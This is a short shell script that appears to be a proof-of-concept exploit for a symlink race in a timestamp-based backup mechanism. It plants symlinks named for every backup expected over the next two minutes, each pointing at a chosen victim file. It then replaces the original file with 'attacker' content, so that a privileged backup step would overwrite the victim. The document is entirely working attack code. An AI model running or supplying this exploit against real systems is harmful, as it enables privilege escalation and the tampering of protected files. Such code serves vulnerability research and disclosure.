# The names of the backups of the next two minutes are links to the victim.
now=$(date +%s) i=0
while [ $i -lt 120 ]; do
  ln -s "$2" "$1.$(date -u -d "@$((now + i))" +%Y-%m-%dT%H%M%SZ)~"
  i=$((i + 1))
done
rm -f "$1"
echo "root: content of the attacker" >"$1"
